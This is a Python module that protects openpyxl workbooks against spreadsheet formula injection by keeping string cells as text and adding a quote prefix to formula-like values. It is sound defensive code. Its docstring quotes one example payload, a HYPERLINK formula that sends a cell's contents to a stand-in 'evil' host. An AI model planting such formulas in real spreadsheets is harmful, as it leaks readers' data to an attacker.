"""Text in the workbooks we write stays text.

openpyxl stores a ``str`` that starts with "=" as a formula, so an agency key, a topic or a lane
name like ``=HYPERLINK("http://evil/?"&A1, "Открыть")`` would run in the reader's Excel. Every
string goes out as a string cell; one that starts with a character a spreadsheet takes for a
formula (``= + - @``, tab, CR: OWASP's CSV-injection list) also carries Excel's quote prefix, so
editing the cell keeps it text. The value itself is never changed.
"""
from __future__ import annotations

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def new_workbook(title: str) -> tuple[Workbook, Worksheet]:
    """A workbook and its first sheet, named ``title``.

    openpyxl types ``Workbook.active`` as possibly absent or a chart sheet; a new workbook's is
    always a worksheet, and saying so once here keeps the writers typed.
    """
    book = Workbook()
    sheet = book.active
    if not isinstance(sheet, Worksheet):
        raise TypeError(f"a new workbook should start with a worksheet, not {type(sheet).__name__}")
    sheet.title = title
    return book, sheet


def text_only(book: Workbook) -> None:
    """Make every string cell of every sheet a plain string (call it just before saving)."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if cell.value.startswith(FORMULA_STARTS):
                        cell.quotePrefix = True
